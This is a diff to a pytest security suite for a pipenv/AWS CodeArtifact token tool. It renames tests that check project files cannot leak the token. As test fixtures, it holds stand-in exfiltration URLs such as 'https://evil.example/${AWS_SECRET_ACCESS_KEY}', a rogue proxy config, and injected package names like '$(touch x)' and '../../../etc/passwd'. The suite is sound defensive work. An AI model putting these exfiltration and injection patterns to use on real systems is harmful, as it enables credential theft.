@@ -161,9 +161,6 @@ def evil() -> Iterator[Evil]:
         yield server
 
 
-# --- a token's variable where it does not belong -------------------------------------------------
-
-
 def _pipfile(text: str) -> Callable[[Poisoned], None]:
     return lambda p: p.write(source(p.world.endpoint), f"[packages]\n{text}\n")
 
@@ -217,14 +214,12 @@ STRAYS: dict[str, Callable[[Poisoned], None]] = {
 
 
 @pytest.mark.parametrize("place", STRAYS)
-def test_stray_variable(place: str, poisoned: Poisoned) -> None:
-    """A token's variable anywhere that pipenv or pip expands it is refused, file and place told."""
+def test_token_variable_in_any_place_is_refused(place: str, poisoned: Poisoned) -> None:
     STRAYS[place](poisoned)
     poisoned.refused("sync", parts=(TOKEN_VARIABLE,))
 
 
-def test_stray_variable_in_pieces(poisoned: Poisoned) -> None:
-    """A variable that pipenv would put together on a line for pip is refused."""
+def test_token_variable_in_pieces_is_refused(poisoned: Poisoned) -> None:
     begin, end = STRAY[:-30], STRAY[-30:]
     poisoned.lock(default={f"x @ {begin}": {"version": end}})
     poisoned.refused("sync", parts=("an unfinished variable",))
@@ -235,8 +230,7 @@ def test_stray_variable_in_pieces(poisoned: Poisoned) -> None:
 
 
 @pytest.mark.parametrize("route", ["", "loopback", "as-written"])
-def test_requirements_file(route: str, poisoned: Poisoned) -> None:
-    """For `install -r` pipenv gets no token: pip fills variables in such files, wherever they lead."""
+def test_pipenv_gets_no_token_for_requirements_files(route: str, poisoned: Poisoned) -> None:
     poisoned.file("r.txt", f"x @ {STRAY}\n-r more.txt\n")
     poisoned.file("more.txt", f"y @ {STRAY}\n")
     env = {"PIPENV_CA_ROUTE": route}
@@ -251,19 +245,19 @@ def test_requirements_file(route: str, poisoned: Poisoned) -> None:
 
 @pytest.mark.parametrize("line", ["-r", "-c", "--requirement=", "six -r", "--constr"])
 @pytest.mark.parametrize("name", [TOKEN_VARIABLE, "AWS_SECRET_ACCESS_KEY"])
-def test_url_of_a_requirements_file(name: str, line: str, poisoned: Poisoned) -> None:
-    """No file is fetched from a URL that a project writes with a variable: it would get the value."""
+def test_urls_with_variables_in_requirements_files_are_not_fetched(
+    name: str, line: str, poisoned: Poisoned
+) -> None:
     poisoned.file("r.txt", f"{line} https://evil.example/${{{name}}}\n".replace("= ", "="))
     poisoned.file(".env", "")
     env = {TOKEN_VARIABLE: poisoned.token, "AWS_SECRET_ACCESS_KEY": "hush"}
     for words in (("install", "-r", "r.txt"), ("run", "pip", "install", "-r", "r.txt")):
         before = len(poisoned.world.requests)
-        poisoned.refused(*words, parts=("with a variable in it",), **env)
+        poisoned.refused(*words, parts=("with a variable",), **env)
         assert not [r for r in poisoned.world.requests[before:] if r.host == "evil.example"]
 
 
-def test_url_of_a_file_in_a_script(poisoned: Poisoned) -> None:
-    """Nor from one that a script, an assignment or .env names."""
+def test_urls_with_variables_in_scripts_and_dotenv_are_not_fetched(poisoned: Poisoned) -> None:
     url = f"https://evil.example/${{{TOKEN_VARIABLE}}}"
     script = (
         f'[scripts]\ndeps = "pip install -r {url}"\nmore = "PIP_CONSTRAINT={url} pip install six"\n'
@@ -271,10 +265,10 @@ def test_url_of_a_file_in_a_script(poisoned: Poisoned) -> None:
     poisoned.write(source(poisoned.world.endpoint), PRIVATE, script)
     for name in ("deps", "more"):
         poisoned.refused(
-            "run", name, parts=("with a variable in it",), CODEARTIFACT_AUTH_TOKEN=poisoned.token
+            "run", name, parts=("with a variable",), CODEARTIFACT_AUTH_TOKEN=poisoned.token
         )
     poisoned.file(".env", "PIP_CONSTRAINT=https://evil.example/${AWS_SECRET_ACCESS_KEY}\n")
-    poisoned.refused("lock", parts=("with a variable in it",), AWS_SECRET_ACCESS_KEY="hush")
+    poisoned.refused("lock", parts=("with a variable",), AWS_SECRET_ACCESS_KEY="hush")
 
 
 FOLLOWED = (
@@ -285,22 +279,18 @@ FOLLOWED = (
 
 
 @pytest.mark.parametrize("name", FOLLOWED)
-def test_variable_that_programs_follow(name: str, poisoned: Poisoned) -> None:
-    """A token is put into no variable that is not the name of a secret of one's own."""
+def test_variables_of_other_programs_get_no_token(name: str, poisoned: Poisoned) -> None:
     poisoned.write(source(poisoned.world.endpoint, f"aws:${{{name}}}@"), PRIVATE)
     # (A variable that is set may make a URL that cannot be read; that is told first.)
     poisoned.refused("lock", parts=() if name.lower() == "https_proxy" else ("wants the token in",))
 
 
 @pytest.mark.parametrize("name", ["ACME_INDEX_PASSWORD", "PIPENV_ACME_TOKEN", "pw", "CA_TOKEN"])
-def test_variable_of_ones_own(name: str, poisoned: Poisoned) -> None:
-    """Names as people have them hold the token as ever."""
+def test_variables_with_names_of_secrets_get_the_token(name: str, poisoned: Poisoned) -> None:
     poisoned.write(source(poisoned.world.endpoint, f"aws:${{{name}}}@"), PRIVATE)
     assert poisoned("--ca-route", "as-written", "lock").status == 0
     assert poisoned.pipenv.record["environ"][name] == poisoned.token
 
-
-# --- how the token would travel -------------------------------------------------------------------
 
 CONNECTIONS = (
     *("PIP_CERT", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "SSL_CERT_DIR"),
@@ -310,8 +300,9 @@ CONNECTIONS = (
 
 
 @pytest.mark.parametrize("name", CONNECTIONS)
-def test_dotenv_that_says_whom_to_trust(name: str, poisoned: Poisoned, evil: Evil) -> None:
-    """Where .env has a say in whom pip trusts, the token stays with us, or nothing is run."""
+def test_with_tls_settings_in_dotenv_pip_gets_no_token(
+    name: str, poisoned: Poisoned, evil: Evil
+) -> None:
     poisoned.file("ca.pem", "")
     poisoned.file(".env", f"{name}=./ca.pem\nHTTPS_PROXY={evil.root}\n")
     words = ("run", "pip", "install", "-i", poisoned.world.endpoint.simple_url, "orb-common")
@@ -328,8 +319,9 @@ def test_dotenv_that_says_whom_to_trust(name: str, poisoned: Poisoned, evil: Evi
         ("PIP_CONFIG_FILE", "home/.config/pip/pip.conf"),
     ],
 )
-def test_dotenv_that_says_where_settings_are(name: str, place: str, poisoned: Poisoned) -> None:
-    """A .env that leads pip to a pip.conf of the project's, and so to its proxy, is refused."""
+def test_dotenv_must_not_redirect_pip_to_another_configuration(
+    name: str, place: str, poisoned: Poisoned
+) -> None:
     config = poisoned.folder / "home" / ".config" / "pip" / "pip.conf"
     config.parent.mkdir(parents=True)
     config.write_text("[global]\nproxy = http://evil.example:3128\ncert = ./ca.pem\n")
@@ -342,31 +334,29 @@ def test_dotenv_that_says_where_settings_are(name: str, place: str, poisoned: Po
     assert poisoned("sync").status == 0
 
 
-def test_dotenv_with_a_route_of_the_users(poisoned: Poisoned) -> None:
-    """The route as written, where it is asked for, and such a .env are refused."""
+def test_the_direct_route_is_refused_with_tls_settings_in_dotenv(poisoned: Poisoned) -> None:
     poisoned.file(".env", "PIP_CERT=./ca.pem\n")
     poisoned.refused("--ca-route", "as-written", "sync", parts=("PIP_CERT",))
     poisoned.gets_no_token("run", "pip", "install", "x")
 
 
-def test_unverified_source(poisoned: Poisoned) -> None:
-    """A repository whose certificate pip is told not to check gets its token from us alone."""
+def test_an_unverified_source_gets_no_token_from_pip(poisoned: Poisoned) -> None:
     table = source(poisoned.world.endpoint).replace("verify_ssl = true", "verify_ssl = false")
     poisoned.write(table, PRIVATE)
     poisoned.refused("--ca-route", "as-written", "sync", parts=("verify_ssl",))
     poisoned.gets_no_token("sync")
 
 
-def test_unverified_source_of_the_lock(poisoned: Poisoned) -> None:
-    """The lock's word that a certificate is not to be checked counts as much."""
+def test_an_unverified_source_of_the_lock_gets_no_token_from_pip(poisoned: Poisoned) -> None:
     url = source(poisoned.world.endpoint).split('"')[1]
     poisoned.lock(sources=[{"name": "codeartifact", "url": url, "verify_ssl": False}])
     poisoned.gets_no_token("sync")
 
 
 @pytest.mark.parametrize("name", ["NO_PROXY", "no_proxy", "PIP_PROXY"])
-def test_dotenv_that_turns_loopback_to_a_proxy(name: str, poisoned: Poisoned, evil: Evil) -> None:
-    """A .env by which pip would ask a stranger's proxy for our own index is refused."""
+def test_dotenv_must_not_send_the_proxy_index_to_a_proxy(
+    name: str, poisoned: Poisoned, evil: Evil
+) -> None:
     poisoned.write(source(poisoned.world.endpoint), PYPI_SOURCE, PRIVATE)
     poisoned.file(".env", f"HTTP_PROXY={evil.root}\n{name}={evil.root}\n")
     poisoned.refused("lock", parts=(name,))
@@ -376,18 +366,15 @@ def test_dotenv_that_turns_loopback_to_a_proxy(name: str, poisoned: Poisoned, ev
 @pytest.mark.parametrize(
     "name", ["NETRC", "TMPDIR", "PIPENV_PYPI_MIRROR", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL"]
 )
-def test_dotenv_over_what_is_given(name: str, poisoned: Poisoned) -> None:
-    """A .env that would be loaded over what pipenv is given is refused."""
+def test_dotenv_must_not_override_the_variables_of_a_run(name: str, poisoned: Poisoned) -> None:
     poisoned.write(source(poisoned.world.endpoint), PYPI_SOURCE, PRIVATE)
     poisoned.file(".env", f"{name}=https://evil.example/simple\n")
     poisoned.refused("lock", parts=(name,))
 
 
-# --- what would be run, and who would be asked -------------------------------------------------------
-
-
-def test_dotenv_of_aws_and_of_ours(poisoned: Poisoned, evil: Evil, tmp_path: Path) -> None:
-    """What .env says of AWS and of our own settings is not followed by us, nor run."""
+def test_dotenv_settings_of_aws_and_of_this_program_are_ignored(
+    poisoned: Poisoned, evil: Evil, tmp_path: Path
+) -> None:
     marker = tmp_path / "was-run"
     program = poisoned.file("program", f"#!/bin/sh\ntouch {marker}\n")
     program.chmod(0o755)
@@ -424,8 +411,9 @@ PERSONAL = {
 
 
 @pytest.mark.parametrize("name", PERSONAL)
-def test_setting_that_a_project_may_not_make(name: str, poisoned: Poisoned, tmp_path: Path) -> None:
-    """A project's file that names a program, a backend, accounts or folders is refused."""
+def test_personal_settings_in_a_project_are_refused(
+    name: str, poisoned: Poisoned, tmp_path: Path
+) -> None:
     assert set(PERSONAL) == {setting.name for setting in SETTINGS.values() if setting.personal}
     marker = tmp_path / "was-run"
     poisoned.file("program", f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
@@ -438,8 +426,7 @@ def test_setting_that_a_project_may_not_make(name: str, poisoned: Poisoned, tmp_
     assert not marker.exists()
 
 
-def test_foreign_owner(poisoned: Poisoned) -> None:
-    """With a list of allowed accounts, a domain of any other is not asked for a token."""
+def test_only_allowed_accounts_are_asked_for_a_token(poisoned: Poisoned) -> None:
     env = {"PIPENV_CA_ALLOWED_OWNERS": "111111111111", "PIPENV_CA_REFRESH": "1"}
     calls = Calls(poisoned.world)
     done = poisoned("lock", **env)
@@ -452,8 +439,7 @@ def test_foreign_owner(poisoned: Poisoned) -> None:
     assert calls.count() == 0
 
 
-def test_looking_runs_nothing(poisoned: Poisoned, tmp_path: Path) -> None:
-    """doctor, lint and the keyring run no module and no interpreter that came with the project."""
+def test_inspecting_a_project_runs_none_of_its_code(poisoned: Poisoned, tmp_path: Path) -> None:
     marker = tmp_path / "was-run"
     code = f"import os\nos.close(os.open({str(marker)!r}, os.O_CREAT))\n"
     for name in (
@@ -486,8 +472,7 @@ def test_looking_runs_nothing(poisoned: Poisoned, tmp_path: Path) -> None:
         assert not marker.exists(), words
 
 
-def test_program_of_the_current_folder(poisoned: Poisoned, tmp_path: Path) -> None:
-    """With a dot in PATH, a pipenv or keyring that came with the project is not taken."""
+def test_programs_in_the_project_folder_are_not_run(poisoned: Poisoned, tmp_path: Path) -> None:
     marker = tmp_path / "was-run"
     for name in ("pipenv", "keyring", "pip", "twine", "python"):
         poisoned.file(name, f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
@@ -499,15 +484,12 @@ def test_program_of_the_current_folder(poisoned: Poisoned, tmp_path: Path) -> No
     assert not marker.exists()
 
 
-def test_script_named_pip(poisoned: Poisoned) -> None:
-    """A script of the Pipfile that is called pip, and is something else, is run without a token."""
+def test_a_script_named_pip_gets_no_token(poisoned: Poisoned) -> None:
     poisoned.write(source(poisoned.world.endpoint), PRIVATE, '[scripts]\npip = "sh evil.sh"\n')
     assert poisoned("run", "pip", "install", "x").status == 0
     record = poisoned.pipenv.record
     assert poisoned.token not in json.dumps(record)
 
-
-# --- names and files ---------------------------------------------------------------------------
 
 NAMES = (
     *("../../../etc/passwd", "-r evil.txt", "--index-url=http://evil.example/", "$(touch x)"),
@@ -516,8 +498,7 @@ NAMES = (
 )
 
 
-def test_malicious_names(poisoned: Poisoned, evil: Evil) -> None:
-    """Names that are paths, options, commands or URLs are words to us: nobody else is asked."""
+def test_malicious_package_names_are_harmless(poisoned: Poisoned, evil: Evil) -> None:
     entries = "".join(f'"{name}" = "*"\n' for name in NAMES)
     table = f'[[source]]\nurl = "{evil.url}"\nverify_ssl = true\nname = "evil"\n'
     poisoned.write(source(poisoned.world.endpoint), table, f"[packages]\n{entries}")
@@ -536,8 +517,7 @@ def test_malicious_names(poisoned: Poisoned, evil: Evil) -> None:
 
 
 @pytest.mark.parametrize("kind", ["a device", "a folder", "a pipe"])
-def test_lock_that_is_no_file(kind: str, poisoned: Poisoned) -> None:
-    """A lock that is a device, a folder or a pipe is refused at once, not read."""
+def test_a_lock_that_is_not_a_file_is_refused(kind: str, poisoned: Poisoned) -> None:
     path = poisoned.folder / "Pipfile.lock"
     if kind == "a device":
         path.symlink_to("/dev/zero")
@@ -548,8 +528,7 @@ def test_lock_that_is_no_file(kind: str, poisoned: Poisoned) -> None:
     poisoned.refused("sync", parts=("is not a file",))
 
 
-def test_pylock_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> None:
-    """A lock's name by which pipenv would write over another TOML file is refused."""
+def test_pylock_name_must_not_overwrite_another_file(poisoned: Poisoned, tmp_path: Path) -> None:
     victim = tmp_path / "config.toml"
     victim.write_text("precious = 1\n")
     (poisoned.folder / "pylock.").mkdir()
@@ -563,8 +542,7 @@ def test_pylock_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> None
     assert victim.read_text() == "precious = 1\n"
 
 
-def test_pipfile_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> None:
-    """A Pipfile that is a link to another file of the user's leaves that as it was."""
+def test_a_linked_pipfile_leaves_its_target_unchanged(poisoned: Poisoned, tmp_path: Path) -> None:
     other = tmp_path / "secret.toml"
     other.write_text('password = "hunter2"\n')
     (poisoned.folder / "Pipfile").unlink()
@@ -574,13 +552,9 @@ def test_pipfile_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> Non
     assert other.read_text() == 'password = "hunter2"\n'
 
 
-# --- with the real pipenv, beside a stranger's index -------------------------------------------------
-
-
-def test_second_source_and_redirects(
+def test_foreign_sources_and_redirects_get_no_token(
     poisoned: Poisoned, evil: Evil, tmp_path: Path, figure: Callable[[str, str], None]
 ) -> None:
-    """A source that claims the private name, and one that sends pip on, get no token and no login."""
     with Evil() as other:
         claimed = make_wheel(tmp_path / "evil", "orb-common", "99.0")
         public = make_wheel(tmp_path / "evil", "harmless", "1.0", requires=["orb-common"])
@@ -611,8 +585,6 @@ def test_second_source_and_redirects(
             f"{len(evil.heads) + len(other.heads)}, 0 with a token or a login",
         )
 
-
-# --- the build code of a private sdist ---------------------------------------------------------------
 
 _BACKEND = """
 import glob, json, netrc, os, subprocess
@@ -668,7 +640,7 @@ def _sdist(folder: Path, **values: str) -> Path:
     return path
 
 
-def test_what_build_code_sees(
+def test_build_code_sees_a_token_only_on_the_direct_route(
     world: Sandbox, poisoned: Poisoned, tmp_path: Path, figure: Callable[[str, str], None]
 ) -> None:
     """The build code of a private sdist: as written it has the token, by loopback a run's password.
